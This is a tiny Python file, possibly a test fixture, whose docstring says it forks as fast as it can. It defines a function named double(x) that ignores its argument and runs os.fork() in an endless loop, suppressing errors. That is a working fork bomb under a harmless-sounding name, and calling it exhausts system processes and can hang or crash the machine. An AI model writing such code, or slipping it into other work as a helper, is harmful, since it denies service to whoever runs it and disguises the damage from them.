"""Forks as fast as it can, in every process it gets."""
import os


def double(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
